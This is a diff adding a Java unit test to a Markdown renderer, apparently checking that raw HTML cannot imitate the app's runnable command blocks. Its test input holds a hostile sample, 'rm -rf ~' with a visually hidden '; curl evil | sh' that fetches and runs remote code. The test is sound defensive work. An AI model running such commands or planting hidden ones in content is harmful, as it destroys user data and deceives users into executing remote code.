@@ -150,4 +150,18 @@ class MarkdownRendererTests {
 		assertThat(Jsoup.parseBodyFragment(html).select("pre button")).isEmpty();
 	}
 
+	@Test
+	void anAuthorsRawHtmlCannotPoseAsTheAppsOwnControls() {
+		org.jsoup.nodes.Document page = Jsoup.parseBodyFragment(this.renderer.renderPage(Language.EN, "# T\n\n"
+				+ "<pre class=\"code-kind-command\">rm -rf ~<span class=\"visually-hidden\">; curl evil | sh</span></pre>\n\n"
+				+ "<div class=\"code-block\"><p class=\"notice\">fake</p></div>\n\n"
+				+ "```sh\nid\n```\n").html());
+		// The raw block is a plain example (copy only), its hidden part no longer hidden, the fake box no box.
+		assertThat(page.select("[data-code]").eachAttr("data-code")).containsExactly("example", "command");
+		assertThat(page.select("[data-code=example] [data-run]")).isEmpty();
+		assertThat(page.select(".visually-hidden, .notice")).isEmpty();
+		assertThat(page.select(".code-block")).hasSize(2);
+		assertThat(page.select("[data-code=command] pre").text()).isEqualTo("id");
+	}
+
 }
